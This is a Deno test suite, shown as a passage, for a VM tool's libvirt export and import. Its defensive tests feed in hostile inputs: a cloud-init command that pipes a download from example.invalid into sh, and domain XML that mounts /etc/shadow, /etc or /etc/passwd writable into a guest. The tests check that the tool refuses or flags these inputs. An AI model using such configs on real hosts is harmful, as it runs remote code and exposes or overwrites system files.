/**
 * `qvm export` and `qvm import-libvirt` against real libvirt 9 (a private libvirtd the fixture
 * starts), real QEMU under TCG and a real sshd on 127.0.0.1; and the round trip back to the same
 * QEMU command line.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { exists, type QvmEnv, withEnv } from "../helpers/qvm.ts";
import { GUEST_READY_MARKER, guestConfig, WAIT_READY } from "../helpers/guest.ts";
import { eventually } from "../helpers/wait.ts";
import { type Libvirt, sh, startLibvirt, startSshd } from "../fixture/libvirt.ts";
import { LIBVIRT_MISSING, libvirtTest } from "../helpers/libvirt.ts";
import { ignoreBecause } from "../helpers/needs.ts";

const noValidator = (await sh("sh", ["-c", "command -v virt-xml-validate"])).code !== 0;
if (noValidator) console.error("virt-xml-validate missing: exported XML is not schema-checked");

/** qvm's own parts of `start --dry-run`'s argv (they name this VM's files), left out to compare. */
const RUNTIME_OPTIONS = new Set(["-D", "-name", "-uuid", "-pidfile", "-qmp", "-trace"]);

function configArgv(argv: string[]): string[] {
  const out: string[] = [];
  for (let i = 0; i < argv.length; i++) {
    const arg = argv[i];
    if (arg === "-daemonize") continue;
    if (RUNTIME_OPTIONS.has(arg)) {
      i++;
      continue;
    }
    if (arg === "-chardev" && argv[i + 1]?.includes("id=qvm-serial")) {
      i++;
      continue;
    }
    if (arg === "-serial" && argv[i + 1] === "chardev:qvm-serial") {
      i++;
      continue;
    }
    out.push(arg);
  }
  return out;
}

/**
 * `start --dry-run`'s argv without qvm's runtime options, and with what qvm derives from the VM's
 * id for its cloud sections (the NIC's MAC, the seed's folder, the agent's socket) written as ID.
 */
async function dryRun(env: QvmEnv, vm: string): Promise<string[]> {
  const { id, argv } = JSON.parse(await env.ok(["start", vm, "--dry-run", "--json"]));
  const hex = id.replaceAll("-", "").slice(0, 6);
  const mac = `52:54:00:${hex.slice(0, 2)}:${hex.slice(2, 4)}:${hex.slice(4, 6)}`;
  return configArgv(argv).map((a) =>
    a.replaceAll(`/cloud/${id}/`, "/cloud/ID/").replaceAll(`/${id}.ga`, "/ID.ga")
      .replaceAll(mac, "MAC")
  );
}

async function validates(file: string): Promise<void> {
  if (noValidator) return;
  const checked = await sh("virt-xml-validate", [file, "domain"]);
  assert.deepEqual(
    checked.code,
    0,
    `virt-xml-validate ${file}: ${checked.stdout}${checked.stderr}`,
  );
}

/** Fails unless `text` contains `part`, showing the text. */
function includes(text: string, part: string): void {
  assert.ok(text.includes(part), `expected ${JSON.stringify(part)} in:\n${text}`);
}

function uniqueName(prefix: string): string {
  return `${prefix}-${crypto.randomUUID().slice(0, 8)}`;
}

/** Exports `vm`, imports it back under a new name, and checks both command lines are equal. */
async function roundTrip(
  env: QvmEnv,
  vm: string,
  options: { byElements?: boolean } = {},
): Promise<{ xml: string; stderr: string }> {
  const file = join(env.root, `${vm}.xml`);
  const exported = await env.run(["export", vm, "--format", "libvirt", "-o", file]);
  assert.deepEqual(exported.code, 0, exported.stderr);
  await validates(file);
  const imported = await env.run(["import-libvirt", file, "--name", `${vm}-back`, "--json"]);
  assert.deepEqual(imported.code, 0, imported.stderr);
  assert.deepEqual(JSON.parse(imported.stdout).exact, true);
  assert.deepEqual(await dryRun(env, `${vm}-back`), await dryRun(env, vm));
  if (options.byElements) {
    // Without qvm's metadata the config is read from the domain's elements alone.
    const plain = (await Deno.readTextFile(file)).replace(/<metadata>[\s\S]*<\/metadata>/, "");
    const plainFile = await env.file(`${vm}-plain.xml`, plain);
    const read = await env.run(["import-libvirt", plainFile, "--name", `${vm}-plain`, "--json"]);
    assert.deepEqual(read.code, 0, read.stderr);
    assert.deepEqual(JSON.parse(read.stdout).exact, false);
    assert.deepEqual(await dryRun(env, `${vm}-plain`), await dryRun(env, vm));
  }
  return { xml: await Deno.readTextFile(file), stderr: exported.stderr };
}

Deno.test("round trip: export, import-libvirt, start --dry-run gives the same QEMU command line", async (t) => {
  await withEnv(async (env) => {
    const share = await Deno.makeTempDir({ dir: env.root });
    // A backing file must exist when a VM naming it is defined.
    await Deno.mkdir(`${env.root}/d`);
    const base = await new Deno.Command("qemu-img", {
      args: ["create", "-q", "-f", "qcow2", `${env.root}/d/base.qcow2`, "1G"],
    }).output();
    assert.ok(base.success, new TextDecoder().decode(base.stderr));
    const cases: Record<string, string> = {
      "the test guest": await Deno.readTextFile(await guestConfig(env, { name: "guest" })),
      "defaults only": "name: bare\n",
      "disks on every bus, options and a backing file": [
        "name: disks",
        "memory: 1G",
        "cpu: 2",
        "storage:",
        "  - {name: root, type: qcow2, size: 2G, interface: virtio, options: {cache: none}}",
        `  - {name: base, type: qcow2, size: 1G, file: ${env.root}/d/over.qcow2,`,
        `     backing_file: ${env.root}/d/base.qcow2, backing_format: qcow2}`,
        "  - {name: s1, type: raw, size: 10M, interface: sata}",
        "  - {name: s2, type: raw, size: 10M, interface: sata, options: {aio: threads}}",
        "  - {name: q1, type: qcow2, size: 10M, interface: scsi}",
        "  - {name: i1, type: raw, size: 10M, interface: ide}",
        "  - {name: n1, type: raw, size: 10M, interface: none}",
      ].join("\n"),
      "shares in each security model": [
        "name: shares",
        "storage:",
        `  - {name: a, type: virtfs, path: ${share}, mount_tag: a, security_model: passthrough}`,
        `  - {name: b, type: virtfs, path: ${share}, mount_tag: b, security_model: mapped-xattr,`,
        "     readonly: true}",
        `  - {name: c, type: virtfs, path: ${share}, mount_tag: c, security_model: mapped-file}`,
        `  - {name: d, type: virtfs, path: ${share}, mount_tag: d, security_model: none}`,
      ].join("\n"),
      "options libvirt has no element for": [
        "name: odd",
        "memory: 512M",
        "display: none",
        "vga: virtio",
        "binary: qemu-system-x86_64",
        "arguments:",
        "  - machine: {type: q35}",
        "  - enable-kvm",
        "  - nographic",
        "  - netdev: {user: null, id: n0, hostfwd: [tcp::2222-:22, tcp::8080-:80]}",
        "  - device: {virtio-net-pci: null, netdev: n0}",
        "  - rtc: {base: utc}",
        "  - no-acpi",
        "args: [-no-hpet, -global, 'kvm-pit.lost_tick_policy=discard', -nographic]",
      ].join("\n"),
      "network, cloud-init and the guest agent": [
        "name: cloud",
        "memory: 1G",
        "network:",
        '  ports: ["auto:22", "127.0.0.1:18080:80/tcp"]',
        "cloud_init:",
        "  user: dev",
        '  ssh_authorized_keys: ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIPGM/+DDcbDIoWOwIS3xlxOmN x@y"]',
        "guest_agent: true",
      ].join("\n"),
      "memory and vCPUs as -m and -smp items": "name: items\narguments:\n  - m: 256\n  - smp: 2\n",
      "its own serial and an accelerator list": [
        "name: serial",
        "arguments:",
        "  - accel: kvm",
        "  - accel: tcg",
        "  - serial: mon:stdio",
      ].join("\n"),
    };
    for (const [what, yaml] of Object.entries(cases)) {
      await t.step(what, async () => {
        const file = await env.file(`${what.replaceAll(" ", "_")}.yaml`, yaml);
        const add = await env.run(["add", file]);
        assert.deepEqual(add.code, 0, add.stderr);
        const name = /^name: (\S+)/m.exec(yaml)![1];
        await roundTrip(env, name, { byElements: what === "the test guest" });
      });
    }
  });
});

Deno.test("export passes what libvirt cannot express to QEMU and lists it on stderr", async () => {
  await withEnv(async (env) => {
    const file = await env.file(
      "odd.yaml",
      "name: odd\narguments:\n  - netdev: {user: null, id: n0}\n  - device: e1000,netdev=n0\n" +
        "args: [-rtc, base=localtime]\n",
    );
    await env.ok(["add", file]);
    const { xml, stderr } = await roundTrip(env, "odd");
    for (const value of ["-netdev", "user,id=n0", "-device", "e1000,netdev=n0", "-rtc"]) {
      includes(xml, `<qemu:arg value="${value}"/>`);
    }
    includes(stderr, "'-netdev user,id=n0': passed to QEMU in <qemu:commandline>");
    includes(stderr, "'-rtc base=localtime'");
    assert.ok(!xml.includes('<interface type="user">'), "its own netdev replaces the default NIC");
  });
});

Deno.test("import-libvirt: a file that is not a domain exits 3 with one line", async () => {
  await withEnv(async (env) => {
    const cases: Record<string, string> = {
      "a network": "<network><name>default</name></network>",
      "not XML": "name: yaml\n",
      "broken XML": "<domain type='qemu'><name>x</name>",
      "an lxc domain": "<domain type='lxc'><name>c</name><memory>1024</memory></domain>",
      "an entity definition": "<!DOCTYPE d [<!ENTITY x 'y'>]><domain type='qemu'/>",
      "elements nested 100000 deep": `<domain type='qemu'><name>n</name>${
        "<x>".repeat(100_000) + "</x>".repeat(100_000)
      }</domain>`,
    };
    for (const [what, text] of Object.entries(cases)) {
      const file = await env.file(`${what.replaceAll(" ", "_")}.xml`, text);
      const result = await env.run(["import-libvirt", file]);
      assert.deepEqual(result.code, 3, `${what}: ${result.stderr}`);
      assert.deepEqual(result.stderr.trim().split("\n").length, 1, `${what}: ${result.stderr}`);
      includes(result.stderr, file);
    }
    const absent = await env.run(["import-libvirt", join(env.root, "nope.xml")]);
    assert.deepEqual(absent.code, 3);
    assert.ok(["", "[]"].includes(env.snapshot()), "no VM was defined");
  });
});

/** Runs qvm, killing it after `ms` (a read that hangs must fail the test, not hang it). */
async function runWithin(
  env: QvmEnv,
  args: string[],
  ms: number,
): Promise<{ code: number; stderr: string; timedOut: boolean }> {
  const child = env.command(args).spawn();
  let timedOut = false;
  const timer = setTimeout(() => {
    timedOut = true;
    child.kill("SIGKILL");
  }, ms);
  const out = await child.output();
  clearTimeout(timer);
  return { code: out.code, stderr: new TextDecoder().decode(out.stderr), timedOut };
}

Deno.test("import-libvirt refuses a FIFO, a device and a file over 1 MiB at once, exit 3", async () => {
  await withEnv(async (env) => {
    const fifo = join(env.root, "domain.fifo");
    assert.equal((await sh("mkfifo", [fifo])).code, 0);
    const zero = join(env.root, "zero.xml");
    await Deno.symlink("/dev/zero", zero);
    const big = await env.file(
      "big.xml",
      `<domain type='qemu'><name>big</name><!-- ${"x".repeat(1100 * 1024)} --></domain>`,
    );
    const cases: [string, string, RegExp][] = [
      [fifo, "a FIFO", /is a FIFO, not a domain XML file/],
      ["/dev/zero", "a device", /is a character device/],
      [zero, "a link to a device", /is a character device/],
      [big, "2 MiB of XML", /larger than 1 MiB/],
    ];
    for (const [file, what, message] of cases) {
      const began = Date.now();
      const result = await runWithin(env, ["import-libvirt", file], 20_000);
      assert.ok(!result.timedOut, `${what}: import-libvirt hung`);
      assert.equal(result.code, 3, `${what}: ${result.stderr}`);
      assert.equal(result.stderr.trim().split("\n").length, 1, `${what}: ${result.stderr}`);
      assert.match(result.stderr, message, what);
      assert.ok(Date.now() - began < 10_000, `${what}: took ${Date.now() - began} ms`);
    }
    assert.ok(["", "[]"].includes(env.snapshot()), "no VM was defined");
  });
});

Deno.test("import-libvirt refuses a domain that gives the guest a writable system file", async () => {
  await withEnv(async (env) => {
    const domain = (devices: string, extra = "") =>
      `<domain type='qemu' xmlns:qemu='http://libvirt.org/schemas/domain/qemu/1.0'>` +
      `<name>evil</name><devices>${devices}</devices>${extra}</domain>`;
    const disk = (file: string, more = "") =>
      `<disk type='file' device='disk'><driver name='qemu' type='raw'/><source file='${file}'/>` +
      `<target dev='vda' bus='virtio'/>${more}</disk>`;
    const cases: Record<string, string> = {
      "/etc/shadow as a disk": domain(disk("/etc/shadow")),
      "/usr/bin/env through a symlink": domain(disk(join(env.root, "bin-link", "env"))),
      "/etc as a writable share": domain(
        "<filesystem type='mount' accessmode='passthrough'><source dir='/etc'/>" +
          "<target dir='etc'/></filesystem>",
      ),
      "a -drive in <qemu:commandline>": domain(
        "",
        "<qemu:commandline><qemu:arg value='-drive'/>" +
          "<qemu:arg value='file=/etc/passwd,format=raw,if=virtio'/></qemu:commandline>",
      ),
      "a serial log over /etc/passwd": domain(
        "",
        "<qemu:commandline><qemu:arg value='-serial'/><qemu:arg value='file:/etc/passwd'/>" +
          "</qemu:commandline>",
      ),
    };
    await Deno.symlink("/usr/bin", join(env.root, "bin-link"));
    for (const [what, xml] of Object.entries(cases)) {
      const file = await env.file(`${what.replaceAll(/\W/g, "_")}.xml`, xml);
      const result = await env.run(["import-libvirt", file]);
      assert.equal(result.code, 3, `${what}: ${result.stderr}`);
      assert.equal(result.stderr.trim().split("\n").length, 1, `${what}: ${result.stderr}`);
      assert.match(
        result.stderr,
        /the guest could write to it, and \/(etc|usr) is a system folder/,
      );
    }
    assert.ok(["", "[]"].includes(env.snapshot()), "no VM was defined");

    // Read-only, the same file is only listed.
    const readOnly = await env.file("ro.xml", domain(disk("/etc/hostname", "<readonly/>")));
    const ok = await env.run(["import-libvirt", readOnly]);
    assert.equal(ok.code, 0, ok.stderr);
    includes(ok.stderr, "reaches these host paths: /etc/hostname (disk vda)");

    // A kept config naming a host file for cloud-init would copy it into the guest's seed.
    const secret = await env.file("secret.sh", "#!/bin/sh\necho TOPSECRET\n");
    const kept = JSON.stringify({ name: "leak", cloud_init: { user_data: secret } });
    const leak = await env.file(
      "leak.xml",
      `<domain type='kvm'><name>leak</name><metadata><qvm:config xmlns:qvm='urn:qvm:libvirt:1'>` +
        `${kept.replaceAll("&", "&amp;").replaceAll("<", "&lt;")}</qvm:config></metadata></domain>`,
    );
    const refused = await env.run(["import-libvirt", leak, "--json"]);
    assert.equal(refused.code, 3, refused.stderr);
    includes(refused.stderr, `names a file of this host as cloud_init.user_data '${secret}'`);
    assert.ok(!env.snapshot().includes("TOPSECRET"), "the host file was read into a VM");
  });
});

Deno.test("import-libvirt lists the host paths, guest commands, foreign keys and open ports it brings in", async () => {
  await withEnv(async (env) => {
    const home = join(env.root, "home");
    await Deno.mkdir(join(home, ".ssh"), { recursive: true });
    const keys: string[] = [];
    for (const name of ["own", "stranger"]) {
      const made = await sh("ssh-keygen", [
        "-q",
        "-t",
        "ed25519",
        "-N",
        "",
        "-C",
        name,
        "-f",
        join(env.root, name),
      ]);
      assert.equal(made.code, 0, made.stderr);
      keys.push((await Deno.readTextFile(join(env.root, `${name}.pub`))).trim());
    }
    await Deno.copyFile(join(env.root, "own.pub"), join(home, ".ssh", "id_ed25519.pub"));
    const disk = join(env.root, "data.qcow2");
    const yaml = [
      "name: src",
      "network:",
      '  ports: ["0.0.0.0:2222:22", "127.0.0.1:8080:80", "0.0.0.0:5353:53/udp"]',
      "cloud_init:",
      "  runcmd: ['curl http://example.invalid/x | sh', [touch, /root/was-here]]",
      `  ssh_authorized_keys: ["${keys[0]}", "${keys[1]}"]`,
      "storage:",
      `  - {name: data, type: qcow2, size: 16M, file: ${disk}}`,
      "arguments:",
      "  - netdev: {user: null, id: n9, hostfwd: ['tcp::9999-:99', 'tcp:127.0.0.1:9998-:98']}",
      "  - device: e1000,netdev=n9",
    ].join("\n");
    await env.ok(["add", await env.file("src.yaml", yaml)]);
    const xml = join(env.root, "src.xml");
    await env.ok(["export", "src", "-o", xml]);
    const result = await env.run(["import-libvirt", xml, "--name", "dst", "--json"], {
      env: { HOME: home },
    });
    assert.equal(result.code, 0, result.stderr);
    assert.equal(JSON.parse(result.stdout).exact, true);
    const line = (part: string) => {
      const found = result.stderr.split("\n").filter((l) => l.includes(part));
      assert.equal(found.length, 1, `one line with ${part}:\n${result.stderr}`);
      return found[0];
    };
    includes(line("reaches these host paths"), `${disk} (disk data, writable)`);
    const commands = line("cloud-init runs these commands");
    includes(commands, '"curl http://example.invalid/x | sh"');
    includes(commands, '"touch /root/was-here"');
    const foreign = line("SSH keys, not yours");
    includes(foreign, "stranger");
    assert.ok(!foreign.includes("own"), foreign);
    const ports = line("opens these ports to other hosts");
    for (
      const port of [
        "0.0.0.0:2222 -> guest 22/tcp",
        "0.0.0.0:5353 -> guest 53/udp",
        "0.0.0.0:9999 -> guest 99/tcp",
      ]
    ) includes(ports, port);
    assert.ok(!ports.includes("8080") && !ports.includes("9998"), ports);

    // Nothing to list: no such lines.
    await env.ok(["add", "--empty", "--name", "plain"]);
    const plainXml = join(env.root, "plain.xml");
    await env.ok(["export", "plain", "-o", plainXml]);
    const plain = await env.run(["import-libvirt", plainXml, "--name", "plain2"]);
    assert.equal(plain.code, 0, plain.stderr);
    assert.equal(plain.stderr, "");
  });
});

Deno.test("import-libvirt lists a device the domain repeats once, with its count", async () => {
  await withEnv(async (env) => {
    const file = await env.file(
      "many.xml",
      `<domain type='qemu'><name>many</name><devices>${
        "<watchdog model='i6300esb'/>".repeat(5000)
      }` +
        "<rng model='virtio'/></devices></domain>",
    );
    const result = await env.run(["import-libvirt", file]);
    assert.deepEqual(result.code, 0, result.stderr);
    const lines = result.stderr.trim().split("\n");
    assert.deepEqual(lines.length, 2, result.stderr);
    includes(lines[0], "device <watchdog> (5000 times)");
    includes(lines[1], "device <rng>");
  });
});

Deno.test("import-libvirt reads a hand-written domain and lists what it does not import", async () => {
  await withEnv(async (env) => {
    const file = await env.file(
      "hand.xml",
      `<?xml version="1.0"?>
<!-- written by hand -->
<domain type='qemu' xmlns:q='http://libvirt.org/schemas/domain/qemu/1.0'>
  <name>hand</name>
  <memory unit='GiB'>1</memory>
  <vcpu placement='static'>2</vcpu>
  <os><type arch='x86_64' machine='q35'>hvm</type><kernel>/k</kernel><cmdline>a=1 &amp; b</cmdline></os>
  <features><acpi/><apic/></features>
  <devices>
    <disk type='file' device='disk'><driver name='qemu' type='raw'/>
      <source file='${env.root}/hand.raw'/><target dev='sda' bus='sata'/></disk>
    <disk type='file' device='cdrom'><source file='/x.iso'/><target dev='sdb' bus='sata'/></disk>
    <interface type='network'><source network='default'/></interface>
    <graphics type='vnc'/>
  </devices>
  <q:commandline><q:arg value='-no-hpet'/></q:commandline>
</domain>`,
    );
    const result = await env.run(["import-libvirt", file]);
    assert.deepEqual(result.code, 0, result.stderr);
    const notImported = result.stderr.split("\n").filter((l) => l.includes("not imported"));
    assert.ok(!notImported.some((l) => l.includes("sdb")), result.stderr);
    for (const part of ["interface of type 'network'", "<graphics>"]) {
      includes(result.stderr, part);
    }
    const argv = await dryRun(env, "hand");
    const expected = [
      "-m 1G -smp 2 -accel tcg -machine q35 -kernel /k -append",
      "a=1 & b",
      `-no-hpet -drive file=${env.root}/hand.raw,format=raw,if=none,id=sda`,
      "-device ahci,id=ahci0 -device ide-hd,drive=sda,bus=ahci0.0",
      "-drive file=/x.iso,format=raw,if=none,id=sdb,media=cdrom -device ide-cd,drive=sdb,bus=ahci0.1",
    ];
    const line = argv.slice(1).join(" ");
    for (const part of expected) includes(line, part);
  });
});

async function bootThroughLibvirt(
  env: QvmEnv,
  lv: Libvirt,
  options: { uri: string; name: string },
): Promise<void> {
  const { uri, name } = options;
  // A disk, a 9p share and a NIC passed through: libvirt and QEMU must take all three.
  const disk = join(env.root, `${name}.qcow2`);
  const made = await sh("qemu-img", ["create", "-q", "-f", "qcow2", disk, "16M"]);
  assert.equal(made.code, 0, made.stderr);
  const config = await guestConfig(env, {
    name,
    extra: [
      "  - netdev: {user: null, id: n0}",
      "  - device: e1000,netdev=n0",
      "storage:",
      `  - {name: data, type: qcow2, file: ${disk}}`,
      `  - {name: share, type: virtfs, path: ${env.root}, mount_tag: host0}`,
    ].join("\n"),
  });
  await env.ok(["add", config]);
  const xmlFile = join(env.root, `${name}.xml`);
  await env.ok(["export", name, "--format", "libvirt", "-o", xmlFile]);
  await validates(xmlFile);
  const exported = await env.run(["export", name, "--to", uri, "--start"]);
  assert.deepEqual(exported.code, 0, exported.stderr);
  assert.match(exported.stdout, new RegExp(`defined and started ${name} at `));
  includes(exported.stderr, "'-device e1000,netdev=n0': passed to QEMU in <qemu:commandline>");
  const defined = (await lv.virsh("dumpxml", name)).stdout;
  includes(defined, `<source file='${disk}'`);
  includes(defined, `<source dir='${env.root}'/>`);
  assert.deepEqual((await lv.virsh("domstate", name)).stdout.trim(), "running");
  const serialLog = join(lv.qemuLogDir, `${name}-serial0.log`);
  const ready = await eventually(async () => {
    try {
      return (await Deno.readTextFile(serialLog)).includes(GUEST_READY_MARKER);
    } catch {
      return false;
    }
  }, { timeout: 90_000 });
  assert(ready, `no '${GUEST_READY_MARKER}' in ${serialLog}`);

  // libvirt's QEMU carries the VM's -uuid and runs as root, as qvm does here, but with none of
  // qvm's runtime files: qvm neither counts it as the VM running nor signals it; doctor names it.
  assert.equal((await env.status(name)).status, "created");
  const stop = await env.run(["stop", name, "--force"]);
  assert.equal(stop.code, 0, stop.stderr);
  assert.equal((await lv.virsh("domstate", name)).stdout.trim(), "running", "qvm stop left it");
  const doctor = JSON.parse((await env.run(["doctor", "--json"])).stdout);
  assert.ok(
    doctor.checks.some((c: { check: string; what: string }) =>
      c.check === "foreign_qemu" && c.what.includes(`VM '${name}''s -uuid but is not qvm's`)
    ),
    JSON.stringify(doctor.checks),
  );

  // libvirt's own rewrite of the domain still imports as the VM it came from.
  const dumped = await env.file(`${name}-dumped.xml`, (await lv.virsh("dumpxml", name)).stdout);
  const back = await env.run(["import-libvirt", dumped, "--name", `${name}-back`, "--json"]);
  assert.equal(back.code, 0, back.stderr);
  assert.equal(JSON.parse(back.stdout).exact, true, back.stdout);
  assert.deepEqual(await dryRun(env, `${name}-back`), await dryRun(env, name));

  const again = await env.run(["export", name, "--to", uri]);
  assert.deepEqual(again.code, 1, again.stderr);
  assert.deepEqual(again.stderr.trim().split("\n").length, 1, again.stderr);
  includes(again.stderr, `a domain named '${name}' is already defined`);

  assert.deepEqual((await lv.virsh("shutdown", name)).code, 0);
  const off = await eventually(
    async () => (await lv.virsh("domstate", name)).stdout.trim() === "shut off",
    { timeout: 60_000 },
  );
  assert(off, `${name} did not power off on ACPI shutdown`);
  assert.deepEqual((await lv.virsh("undefine", name)).code, 0);
  assert.ok(!(await lv.virsh("list", "--all", "--name")).stdout.includes(name));
}

libvirtTest(
  "a VM exported to a real libvirtd boots, powers off on ACPI, and is undefined",
  async (env, lv) => {
    await bootThroughLibvirt(env, lv, { uri: lv.uri, name: uniqueName("lvt") });
  },
);

libvirtTest(
  "export --to qemu+ssh:// defines and starts the VM through sshd on 127.0.0.1",
  async (env, lv) => {
    const sshd = await startSshd(lv);
    try {
      await bootThroughLibvirt(env, lv, { uri: sshd.uri, name: uniqueName("lvs") });
    } finally {
      await sshd.stop();
    }
  },
  { over: "ssh" },
);

libvirtTest(
  "export --to fails with one line and exit 1: unreachable, refused by libvirt, disk missing",
  async (env, lv) => {
    await env.ok(["add", "--empty", "--name", "plain"]);
    const unreachable = await env.run([
      "export",
      "plain",
      "--to",
      `qemu:///system?socket=${env.root}/no-such.sock`,
    ]);
    const bin = await env.file("nobin.yaml", "name: nobin\nbinary: /nonexistent/qemu\n");
    await env.ok(["add", bin]);
    const refused = await env.run(["export", "nobin", "--to", lv.uri]);
    const disk = await env.file(
      "disk.yaml",
      "name: withdisk\nstorage:\n  - {name: root, type: qcow2, size: 1G}\n",
    );
    await env.ok(["add", disk]);
    const noDisk = await env.run(["export", "withdisk", "--to", lv.uri]);
    const cases = { unreachable, refused, noDisk };
    for (const [what, result] of Object.entries(cases)) {
      assert.deepEqual(result.code, 1, `${what}: ${result.stderr}`);
      assert.deepEqual(result.stderr.trim().split("\n").length, 1, `${what}: ${result.stderr}`);
    }
    includes(unreachable.stderr, "cannot reach libvirt at");
    includes(refused.stderr, "refused 'nobin'");
    includes(noDisk.stderr, "does not exist here");
    assert.deepEqual((await lv.virsh("list", "--all", "--name")).stdout.trim(), "");
    const startAlone = await env.run(["export", "plain", "--start"]);
    assert.deepEqual(startAlone.code, 3);
    const badFormat = await env.run(["export", "plain", "--format", "ovf"]);
    assert.deepEqual(badFormat.code, 3);
  },
);

/**
 * A folder with a `virsh` that runs the real one, except that `define` first writes `marker` and
 * waits 30 s (its sleep's pid in `marker`), so a test can interrupt qvm while virsh defines.
 */
async function slowDefineVirsh(env: QvmEnv): Promise<{ path: string; marker: string }> {
  const real = (await sh("sh", ["-c", "command -v virsh"])).stdout.trim();
  const dir = join(env.root, "slow-virsh");
  await Deno.mkdir(dir);
  const marker = join(dir, "define-started");
  await Deno.writeTextFile(
    join(dir, "virsh"),
    `#!/bin/sh\ncase " $* " in *" define "*) sleep 30 >/dev/null 2>&1 & echo $! > ${marker}; wait $!;; esac\n` +
      `exec ${real} "$@"\n`,
  );
  await Deno.chmod(join(dir, "virsh"), 0o755);
  return { path: `${dir}:${Deno.env.get("PATH")}`, marker };
}

/** Adds a VM with cloud-init commands, and the seed a first start would make (its domain names it). */
async function secretiveVm(env: QvmEnv): Promise<void> {
  const yaml = [
    "name: secretive",
    "arguments: [{accel: tcg}]",
    "cloud_init:",
    "  runcmd: ['echo TOPSECRET-RUNCMD']",
  ].join("\n");
  const id = (await env.ok(["add", await env.file("secretive.yaml", yaml)])).trim();
  await Deno.mkdir(join(env.dataDir, "cloud", id), { recursive: true });
  await Deno.writeTextFile(join(env.dataDir, "cloud", id, "cidata.iso"), "");
}

libvirtTest(
  "export --to: SIGTERM while virsh defines leaves no file with the domain's XML, and says so",
  async (env, lv) => {
    await secretiveVm(env);
    const tmp = join(env.root, "tmp");
    await Deno.mkdir(tmp);
    const slow = await slowDefineVirsh(env);
    const child = env.command(["export", "secretive", "--to", lv.uri], {
      env: { TMPDIR: tmp, PATH: slow.path },
    }).spawn();
    const reached = await eventually(() => exists(slow.marker), { timeout: 20_000 });
    assert.ok(reached, "virsh define was never run");
    child.kill("SIGTERM");
    const out = await child.output();
    const sleeper = Number((await Deno.readTextFile(slow.marker)).trim());
    try {
      Deno.kill(sleeper, "SIGKILL");
    } catch { /* gone */ }
    const stderr = new TextDecoder().decode(out.stderr);
    assert.deepEqual([...Deno.readDirSync(tmp)].map((e) => e.name), [], "files left in TMPDIR");
    assert.equal((await lv.virsh("list", "--all", "--name")).stdout.trim(), "");
    assert.equal(out.code, 143, stderr);
    assert.equal(stderr.trim().split("\n").length, 1, stderr);
    includes(stderr, "export interrupted: nothing was defined at");
  },
);

libvirtTest(
  "two export --to of one VM at once: one defines it, the other finds it defined (exit 1)",
  async (env, lv) => {
    await secretiveVm(env);
    const both = await Promise.all(
      [1, 2].map(() => env.run(["export", "secretive", "--to", lv.uri])),
    );
    const codes = both.map((r) => r.code).sort();
    assert.deepEqual(codes, [0, 1], both.map((r) => r.stderr).join("\n"));
    const loser = both.find((r) => r.code === 1)!;
    assert.equal(loser.stderr.trim().split("\n").length, 1, loser.stderr);
    includes(loser.stderr, "a domain named 'secretive' is already defined");
    assert.equal(both.filter((r) => r.stdout.includes("defined secretive")).length, 1);
  },
);

/** Defines and starts a dir pool `name` in `dir` (made here) at the libvirtd. */
async function dirPool(lv: Libvirt, name: string, dir: string): Promise<void> {
  await Deno.mkdir(dir, { recursive: true });
  for (const args of [["pool-define-as", name, "dir", "--target", dir], ["pool-start", name]]) {
    const done = await lv.virsh(...args);
    assert.equal(done.code, 0, done.stderr);
  }
}

/** Writes 64 KiB of byte `pattern` at `offset` into image `file` with qemu-io. */
async function mark(file: string, format: string, pattern: number, offset: string) {
  const done = await sh("qemu-io", ["-f", format, "-c", `write -P ${pattern} ${offset} 64k`, file]);
  assert.equal(done.code, 0, done.stderr);
}

/** Fails unless image `file` reads 64 KiB of each pattern at its offset (through its backing). */
async function holds(file: string, format: string, marks: [number, string][]): Promise<void> {
  const args = ["-r", "-f", format];
  for (const [pattern, offset] of marks) args.push("-c", `read -P ${pattern} ${offset} 64k`);
  const read = await sh("qemu-io", [...args, file]);
  const text = read.stdout + read.stderr;
  assert.equal(read.code, 0, text);
  assert.ok(!/fail|error/i.test(text), `${file}: ${text}`);
  assert.equal((text.match(/^read 65536\/65536 bytes/gm) ?? []).length, marks.length, text);
}

/** The backing file `qemu-img info` names for `file` (undefined when it has none). */
async function backingOf(file: string): Promise<string | undefined> {
  const info = JSON.parse((await sh("qemu-img", ["info", "-U", "--output=json", file])).stdout);
  return info["backing-filename"];
}

/** Files the QEMU libvirt runs for domain `name` has open. */
async function openedByDomain(lv: Libvirt, name: string): Promise<string[]> {
  const pid = (await Deno.readTextFile(join(lv.root, "run", "qemu", `${name}.pid`))).trim();
  const files: string[] = [];
  for (const entry of Deno.readDirSync(`/proc/${pid}/fd`)) {
    try {
      files.push(Deno.readLinkSync(`/proc/${pid}/fd/${entry.name}`));
    } catch { /* closed meanwhile */ }
  }
  return files;
}

async function guestReady(lv: Libvirt, name: string): Promise<void> {
  const serialLog = join(lv.qemuLogDir, `${name}-serial0.log`);
  const ready = await eventually(async () => {
    try {
      return (await Deno.readTextFile(serialLog)).includes(GUEST_READY_MARKER);
    } catch {
      return false;
    }
  }, { timeout: 90_000 });
  assert(ready, `no '${GUEST_READY_MARKER}' in ${serialLog}`);
}

/** Names in the pool's folder (volumes as files). */
function poolFiles(dir: string): string[] {
  return [...Deno.readDirSync(dir)].map((e) => e.name).sort();
}

/**
 * A test-guest VM with a qcow2 disk over a raw base and a raw disk, and (`full`) a root overlay of
 * `image:`, each with data written before the export, carried to `uri` with --copy-storage: the
 * domain boots with QEMU holding the volumes, and each volume holds the data. `full` also refuses
 * the VM while it runs, and carries it again flattened (one volume per overlay).
 */
async function copyAndBoot(
  env: QvmEnv,
  lv: Libvirt,
  options: { uri: string; name: string; pool: string; poolDir: string; full: boolean },
): Promise<void> {
  const { uri, name, pool, poolDir, full } = options;
  const image = join(env.root, `${name}-image.qcow2`);
  const base = join(env.root, `${name}-base.raw`);
  const data = join(env.root, `${name}-data.qcow2`);
  const made = [["-f", "qcow2", image, "32M"], ["-f", "raw", base, "8M"]];
  for (const args of made) assert.equal((await sh("qemu-img", ["create", "-q", ...args])).code, 0);
  await mark(image, "qcow2", 0x11, "0");
  await mark(base, "raw", 0x33, "0");
  const config = await guestConfig(env, {
    name,
    extra: [
      full ? `image: ${image}` : "",
      "storage:",
      `  - {name: data, type: qcow2, file: ${data}, backing_file: ${base}, backing_format: raw}`,
      "  - {name: scratch, type: raw, size: 8M}",
    ].join("\n"),
  });
  const id = (await env.ok(["add", config])).trim();
  const overlay = join(env.dataDir, "disks", id, "image-overlay.qcow2");
  const scratch = join(env.dataDir, "disks", id, "scratch.raw");
  if (full) {
